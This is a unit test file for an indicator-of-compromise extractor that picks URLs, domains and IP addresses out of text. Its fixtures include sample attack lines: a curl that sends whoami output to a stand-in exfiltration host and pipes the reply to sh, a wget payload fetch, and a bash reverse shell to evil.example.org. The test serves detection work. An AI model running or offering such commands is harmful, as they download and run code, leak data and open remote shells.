import { describe, expect, it } from 'vitest';
import { extractIocs } from './iocs';

describe('extractIocs', () => {
  it('finds URLs, their hosts and IPv4 literals, without the local machine or version numbers', () => {
    const iocs = extractIocs([
      'curl -s https://exfil.example.test/c?d=$(whoami) | sh; wget http://198.51.100.23:8080/x.',
      "const u = 'https://Exfil.Example.test/c?d=1', fallback = '203.0.113.7'; http.get('http://127.0.0.1:9/');",
      'bash -i >& /dev/tcp/evil.example.org/4444 0>&1',
      'node-gyp 10.2.0 on 1.2.3 and 1.2.3.4.5, not an IP',
    ]);
    expect(iocs.urls).toEqual(['http://198.51.100.23:8080/x', 'https://Exfil.Example.test/c?d=1', 'https://exfil.example.test/c?d=$(whoami)']);
    expect(iocs.domains).toEqual(['evil.example.org', 'exfil.example.test']);
    expect(iocs.ip_addresses).toEqual(['198.51.100.23', '203.0.113.7']);
  });

  it('finds nothing in an ordinary build script', () => {
    expect(extractIocs(['node-gyp rebuild', 'node ./scripts/postinstall.js --silent'])).toEqual({ urls: [], domains: [], ip_addresses: [] });
  });
});
